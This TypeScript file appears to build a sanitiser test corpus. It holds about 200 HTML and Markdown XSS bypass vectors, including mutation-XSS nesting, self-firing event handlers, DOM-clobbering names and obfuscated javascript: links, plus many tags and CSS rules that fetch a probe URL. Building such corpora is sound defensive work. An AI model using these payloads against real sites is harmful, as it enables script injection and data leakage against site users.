import { htmlPayloads, probeHost, type HtmlPayload } from './html-payloads.ts';

type Vector = (run: string, url: string) => string;

/**
 * What gets past sanitisers that are nearly right: texts that mean something else once they were
 * serialised, names that hide a property of the page, elements that ask for something in a way few
 * lists know.
 */
const vectors: readonly Vector[] = [
  // Read anew, they are another tree.
  (run) => `<noscript><p title="</noscript><img src=x: onerror=${run}>">`,
  (run) => `<svg></p><style><a id="</style><img src=x: onerror=${run}>">`,
  (run) => `<math></p><style><!--</style><img title="--&gt;&lt;img src=x: onerror=${run}&gt;">`,
  (run) =>
    `<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=${run} src=x:>">`,
  (run) =>
    `<math><mtext><table><mglyph><style><math><img src=x: onerror=${run}></style></table></mtext></math>`,
  (run) =>
    `<svg><desc><math><annotation-xml encoding="text/html"><img src=x: onerror=${run}></annotation-xml></math></desc></svg>`,
  (run) =>
    `<math><annotation-xml encoding="text/html"><style></math><img src=x: onerror=${run}></style></annotation-xml>`,
  (run) => `<svg><foreignObject><p><img src=x: onerror=${run}></p></foreignObject></svg>`,
  (run) => `<xmp><p title="</xmp><img src=x: onerror=${run}>">`,
  (run) => `<noembed><p title="</noembed><img src=x: onerror=${run}>">`,
  (run) => `<noframes><p title="</noframes><img src=x: onerror=${run}>">`,
  (run) => `<iframe><p title="</iframe><img src=x: onerror=${run}>">`,
  (run) => `<title><p title="</title><img src=x: onerror=${run}>">`,
  (run) => `<textarea><p title="</textarea><img src=x: onerror=${run}>">`,
  (run) => `<select><option><style></select><img src=x: onerror=${run}></style></option>`,
  (run) => `<template><img src=x: onerror=${run}></template><img src=x: onerror=${run}>`,
  (run) => `<div><template shadowrootmode="open"><img src=x: onerror=${run}></template></div>`,
  (run) => `<p><!--><img src=x: onerror=${run}>-->`,
  (run) => `<!--!--><img src=x: onerror=${run}><!-- -->`,
  (run) => `<![CDATA[<img src=x: onerror=${run}>]]>`,
  (run) => `<svg><![CDATA[</svg><img src=x: onerror=${run}>]]></svg>`,
  (run) => `<?xml version="1.0"?><img src=x: onerror=${run}>`,
  (run) => `<?a ><img src=x: onerror=${run}> ?>`,
  (run) => `</ a><img src=x: onerror=${run}>`,
  (run) => `<plaintext><img src=x: onerror=${run}>`,
  (run) => `${'<div>'.repeat(260)}<img src=x: onerror=${run}>${'</div>'.repeat(260)}`,
  (run) => `${'<svg><g>'.repeat(140)}<img src=x: onerror=${run}>`,
  (run) =>
    `<table><caption><svg><title><style><img src=x: onerror=${run}></style></title></svg></caption></table>`,
  (run) => `<a href="x"><table><a href="y"><img src=x: onerror=${run}></a></table></a>`,
  (run) => `<b is="x-a"><x-a onclick="${run}" autofocus tabindex=0 onfocus="${run}">a</x-a></b>`,
  // Attributes that run by themselves.
  (run) => `<input autofocus onfocus="${run}">`,
  (run) => `<textarea autofocus onfocus=${run}></textarea>`,
  (run) => `<button autofocus onfocus=${run}>a</button>`,
  (run) => `<a href="#" autofocus onfocus=${run}>a</a>`,
  (run) => `<div tabindex=0 autofocus onfocus=${run}>a</div>`,
  (run) => `<p contenteditable autofocus onfocusin=${run}>a</p>`,
  (run) => `<body onload=${run}>`,
  (run) => `<body onpageshow="${run}"><p>a`,
  (run) => `<video autoplay onloadstart="${run}" src="x:"></video>`,
  (run) => `<audio onerror=${run} autoplay><source src=x: onerror=${run}></audio>`,
  (run) => `<video><track default src="x:" onerror="${run}"></video>`,
  (run) => `<svg><image href="x:" onerror="${run}"/></svg>`,
  (run) => `<svg><feImage href="x:" onerror="${run}"/></svg>`,
  (run) => `<svg onload=${run} onload=a()><g/></svg>`,
  (run) => `<svg><style onload=${run}></style></svg>`,
  (run) => `<svg><animateTransform onbegin=${run} attributeName=transform dur=1s></svg>`,
  (run) => `<svg><animateMotion onbegin=${run} dur=1s></svg>`,
  (run) => `<svg><discard onbegin=${run} begin=0s></svg>`,
  (run) =>
    `<svg><a><animate attributeName=href values="javascript:${run}"/><text y=9>a</text></a></svg>`,
  (run) =>
    `<svg><use href="data:image/svg+xml,<svg id='a' xmlns='http://www.w3.org/2000/svg'><image href='x:' onerror='${run}'/></svg>#a"/></svg>`,
  (run) => `<math href="javascript:${run}">a</math>`,
  (run) =>
    `<math><maction actiontype="statusline" xlink:href="javascript:${run}">a</maction></math>`,
  (run) => `<marquee loop=1 width=0 onfinish=${run}>a</marquee>`,
  (run) =>
    `<dialog open onclose="${run}" oncancel="${run}"><form method=dialog><button>a</button></form></dialog>`,
  (run) => `<div popover id=p ontoggle="${run}" onbeforetoggle="${run}">a</div>`,
  (run) => `<p style="animation: spin 1s" onanimationstart="${run}">a</p>`,
  (run) => `<p style="transition: all 1s" ontransitionrun="${run}">a</p>`,
  (run) =>
    `<div oncontentvisibilityautostatechange="${run}" style="content-visibility:auto">a</div>`,
  (run) => `<a onscrollend="${run}" style="overflow:auto" href="x">a</a>`,
  (run) => `<img src=x: onerror\u0000=${run}>`,
  (run) => `<img src=x:\u0009onerror\u000c=\u000a${run}>`,
  (run) => `<img src=x: on\u0000error=${run}>`,
  (run) => `<img\u000bsrc=x: onerror=${run}>`,
  (run) => `<img src=\`x:\` onerror=\`${run}\`>`,
  (run) => `<img src=x: alt="a\\" onerror=${run} b="`,
  (run) => `<img """><script>${run}</script>">`,
  (run) => `<<script>${run}//<</script>`,
  (run) => `<script\u0020type=module>${run}</script>`,
  (run) => `<svg><script href="data:text/javascript,${run}"></script></svg>`,
  (run) => `<svg><script xlink:href="data:,${run}"/></svg>`,
  (run) => `<iframe srcdoc="&lt;img src=x: onerror=parent.${run}&gt;"></iframe>`,
  (run) => `<iframe src="data:text/html,<script>parent.${run}</script>"></iframe>`,
  (run) => `<object data="data:text/html,<script>parent.${run}</script>"></object>`,
  (run) => `<embed src="javascript:${run}">`,
  (run) =>
    `<form action="javascript:${run}"><input type=submit id=s autofocus onfocus=${run}></form>`,
  (run) => `<form><button formaction="javascript:${run}">a</button></form>`,
  (run) => `<base href="javascript:${run}//"><a href="#">a</a>`,
  (run) => `<meta http-equiv="refresh" content="0;url=javascript:${run}">`,
  (run) => `<a href="\u0001javascript:${run}">a</a>`,
  (run) => `<a href="java\u000ascript:${run}">a</a>`,
  (run) => `<a href="&#x6A;&#x61;vascript&colon;${run}" target=_blank>a</a>`,
  (run) => `<a href="data:text/html;base64,${encodeBase64(`<script>${run}</script>`)}">a</a>`,
  (run) => `<a href="blob:null/a" ping="x:" onpointerrawupdate=${run}>a</a>`,
  // Names that hide a property that a sanitiser reads.
  (run) => `<form><input name=parentNode><input name=nodeName><img src=x: onerror=${run}></form>`,
  (run) => `<form id=x tabindex=1 autofocus onfocus=${run}><input name=removeAttribute></form>`,
  (run) =>
    `<form onfocusin=${run}><input name=attributes autofocus><input name=getAttributeNames></form>`,
  (run) =>
    `<img name=implementation><img name=createElement><img name=getElementById src=x: onerror=${run}>`,
  (run) => `<form name=body><input name=firstElementChild></form><img src=x: onerror=${run}>`,
  (run) => `<form><input name=childNodes><input name=namespaceURI><svg onload=${run}></svg></form>`,
  // What asks for something.
  (_, url) => `<link rel=prefetch href="${url}">`,
  (_, url) => `<link rel=preload as=image href="${url}">`,
  (_, url) => `<link rel=modulepreload href="${url}">`,
  (_, url) => `<link rel=icon href="${url}">`,
  (_, url) => `<link rel=manifest href="${url}">`,
  (_, url) => `<link rel=preload as=image imagesrcset="${url} 1x">`,
  (_, url) =>
    `<script type=speculationrules>{"prefetch":[{"source":"list","urls":["${url}"]}]}</script>`,
  (_, url) =>
    `<script type=importmap>{"imports":{"a":"${url}"}}</script><script type=module>import "a"</script>`,
  (_, url) => `<meta http-equiv=refresh content="9;url=${url}">`,
  (_, url) => `<base href="${url}/"><img src="a.png">`,
  (_, url) => `<img src="${url.replace('http:', '')}">`,
  (_, url) => `<img src="\\\\${url.slice(7)}">`,
  (_, url) => `<img src="ht\u000atp://${url.slice(7)}">`,
  (_, url) => `<img loading=eager decoding=sync srcset="${url} 1x, ${url} 2x" sizes=1px>`,
  (_, url) => `<img lowsrc="${url}" dynsrc="${url}" src="${url}">`,
  (_, url) => `<video src="${url}" preload=auto></video>`,
  (_, url) => `<video controls><source src="${url}"></video>`,
  (_, url) => `<audio><source src="${url}"></audio>`,
  (_, url) => `<video><track default kind=captions src="${url}"></video>`,
  (_, url) => `<svg><image xlink:href="${url}" width=9 height=9 /></svg>`,
  (_, url) => `<svg><use href="${url}#a"/></svg>`,
  (_, url) =>
    `<svg><filter id=f><feImage href="${url}"/></filter><rect width=9 height=9 filter="url(#f)"/></svg>`,
  (_, url) => `<svg><rect width=9 height=9 fill="url(${url}#a)" mask="url(${url}#b)"/></svg>`,
  (_, url) => `<svg><style>rect{fill:url(${url}#a)}</style><rect width=9 height=9 /></svg>`,
  (_, url) => `<svg><pattern href="${url}#p" id=q /><rect width=9 height=9 fill="url(#q)"/></svg>`,
  (_, url) => `<svg><foreignObject width=9 height=9><img src="${url}"></foreignObject></svg>`,
  (_, url) => `<?xml-stylesheet href="${url}"?><p>a`,
  (_, url) => `<style>@font-face{font-family:a;src:url(${url})}p{font-family:a}</style><p>a</p>`,
  (_, url) => `<style>p::before{content:url("${url}")}</style><p>a</p>`,
  (_, url) => `<style>p{background:image-set("${url}" 1x)}</style><p>a</p>`,
  (_, url) => `<style>@namespace a url(${url});@import url(${url}) layer(a);</style>`,
  (_, url) => `<p style="list-style-image:url(${url});display:list-item">a</p>`,
  (_, url) => `<p style="border-image:url(${url}) 1;border:1px solid">a</p>`,
  (_, url) => `<p style="cursor:url(${url}),auto;mask:url(${url})">a</p>`,
  (_, url) => `<p style="--a:url(${url});background:var(--a)">a</p>`,
  (_, url) => `<p style="background:u\\72l(${url})">a</p>`,
  (_, url) => `<body background="${url}"><p>a`,
  (_, url) =>
    `<td background="${url}">a</td><table><tr><td background="${url}">a</td></tr></table>`,
  (_, url) => `<input type=image src="${url}" alt=a>`,
  (_, url) => `<object type=image/png data="${url}"><img src="${url}"></object>`,
  (_, url) => `<embed type=image/png src="${url}">`,
  (_, url) => `<iframe src="${url}" loading=eager></iframe>`,
  (_, url) => `<frameset><frame src="${url}"></frameset>`,
  (_, url) => `<fencedframe src="${url}"></fencedframe><portal src="${url}"></portal>`,
  (_, url) => `<template shadowrootmode=open><img src="${url}"></template>`,
  (_, url) => `<div><template shadowrootmode=open><style>@import "${url}"</style></template></div>`,
  (_, url) =>
    `<picture><source type="image/png" srcset="${url}"><source media="(min-width:1px)" srcset="${url}"><img></picture>`,
  (_, url) =>
    `<menu type=context><menuitem icon="${url}"></menu><img src="${url}" ismap usemap=#m>`,
  (_, url) => `<bgsound src="${url}"><image src="${url}">`,
  (_, url) => `<details open><summary>a</summary><img src="${url}"></details>`,
  (_, url) => `<dialog open><img src="${url}"></dialog>`,
  (_, url) => `<noscript><img src="${url}"></noscript><img src="${url}">`,
  // Markdown that ends up as one of these.
  (run) => `[a](<javascript:${run}> "b")`,
  (run) => `[a]( javascript:${run} )`,
  (run) => `[a](javascript\\:${run})`,
  (run) => `[a](&#x0000006A;avascript:${run})`,
  (run) => `[a](\u0001javascript:${run})`,
  (run) => `[a][b]\n\n[b]: <javascript:${run}>\n  "title' onmouseover='${run}"`,
  (run) => `![a](x: "b" onerror="${run}")`,
  (run) => `![\`"><img src=x: onerror=${run}>\`](x:)`,
  (run) => `\`\`\`html"><img src=x: onerror=${run}>\na\n\`\`\``,
  (run) => `~~~ <img src=x: onerror=${run}>\na\n~~~\n\n<img src=x: onerror=${run}>`,
  (run) => `\\<img src=x: onerror=${run}> <img src=x: onerror=${run}>`,
  (run) => `&lt;img src=x: onerror=${run}&gt; <img src=x: onerror=${run}>`,
  (run) => `| a |\n| :-: |\n| "><img src=x: onerror=${run}> |`,
  (run) => `1. a\n\n   <div>\n   <img src=x: onerror=${run}>\n   </div>`,
  (run) => `<div>\n\n*a* <img src=x: onerror=${run}>\n\n</div>`,
  (run) => `<a title="\n\n<img src=x: onerror=${run}>\n\n">b</a>`,
  (run) => `<pre>\n\n\`\`\`\n</pre><img src=x: onerror=${run}>\n\`\`\``,
  (run) => `- [ ] <input autofocus onfocus=${run}>\n- [x] <img src=x: onerror=${run}>`,
  (run) => `[^1]\n\n[^1]: <img src=x: onerror=${run}>`,
  (run) => `Title <img src=x: onerror=${run}>\n=====`,
  (run) => `*<img src=x: onerror=${run}>*_a_`,
  (run) => `<ht\ntp://a" onmouseover="${run}"> <img src=x: onerror=${run}>`,
  (run) => `www.a.example/"onmouseover="${run} <img src=x: onerror=${run}>`,
  (run) => `a@b.example"onmouseover="${run} <img src=x: onerror=${run}>`,
  (_, url) => `![a][b]\n\n[b]: <${url}> "c"`,
  (_, url) => `![![a](${url})](${url})`,
  (_, url) => `[![a][b]][b]\n\n[b]: ${url}`,
  (_, url) => `![](${url})![](${url} =9x9)`,
  (_, url) => `<p>\n![a](${url})\n<img src="${url}">\n</p>`,
  (_, url) => `| ![a](${url}) |\n| --- |\n| <img src="${url}"> |`,
  (_, url) => `# ![a](${url}) <img src="${url}">`,
  (_, url) => `![a](\\\\${url.slice(7)})`,
  (_, url) => `![a](//${url.slice(7)} 'b')`,
  (_, url) => `![a](file:///etc/passwd) ![b](${url}) ![c](app://x/${url})`,
  (_, url) => `![a](pack://x/${url}) ![b](blob:${url}) <img src="${url}">`,
  (_, url) => `> ![a](${url})\n> > ![a](${url})\n\n- ![a](${url})`,
  (run) => `<details open ontoggle=${run}><summary>\n\n**a**\n\n</summary></details>`,
  (run) => `<svg><set attributeName=onmouseover to="${run}" onbegin=${run}></svg>`,
  (run) => `<video poster="javascript:${run}" onerror=${run} src=x:></video>`,
  (run) => `<img src=x: onerror="&#${'0'.repeat(20)}32;${run}" alt='<b title="'>`,
  (run) => `<keygen autofocus onfocus=${run}><isindex type=image src=x: onerror=${run}>`,
  (run) => `<style>*{animation:a 1s}@keyframes a{}</style><p onanimationstart=${run}>a</p>`,
  (_, url) => `<style>a{--x:url(${url});background:var(--x)}</style><a>b</a>`,
  (_, url) => `<svg><linearGradient id=g href="${url}#a"/><image href="${url}" /></svg>`,
  (_, url) => `<img src="x:" srcset="${url} 9999w" sizes="99999px">`,
  (_, url) => `<video controls poster="${url}"><source src="${url}" type="video/webm"></video>`,
  // In elements that change how the rest is read, twice.
  ...[
    '<svg><p>',
    '<math><mi>',
    '<table><td>',
    '<select>',
    '<a><a>',
    '<nobr><nobr>',
    '<ruby><rt>',
  ].map(
    (before): Vector =>
      (run) =>
        `${before}<img src=x: onerror=${run}>`,
  ),
  ...['</p>', '</br>', '</body>', '</html>', '</template>', '</svg>', '<//>'].map(
    (before): Vector =>
      (_, url) =>
        `${before}<img src="${url}">`,
  ),
];

/** 200 and more, numbered behind `htmlPayloads`. */
export const sharpPayloads: readonly HtmlPayload[] = vectors.map((vector, index) => {
  const number = htmlPayloads.length + index;
  return {
    number,
    title: `sharp ${index}`,
    text: vector(`run(${number})`, `http://${probeHost}/${number}`),
  };
});

/** Of ASCII. The engine has no `btoa`. */
function encodeBase64(text: string): string {
  const signs = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/';
  let out = '';
  for (let at = 0; at < text.length; at += 3) {
    const [a = 0, b = 0, c = 0] = [0, 1, 2].map((next) => text.codePointAt(at + next) ?? 0);
    const bits = (a << 16) | (b << 8) | c;
    out += [18, 12, 6, 0].map((shift) => signs[(bits >> shift) & 63] ?? '').join('');
  }
  const left = text.length % 3;
  return left === 0 ? out : out.slice(0, left - 3) + '='.repeat(3 - left);
}
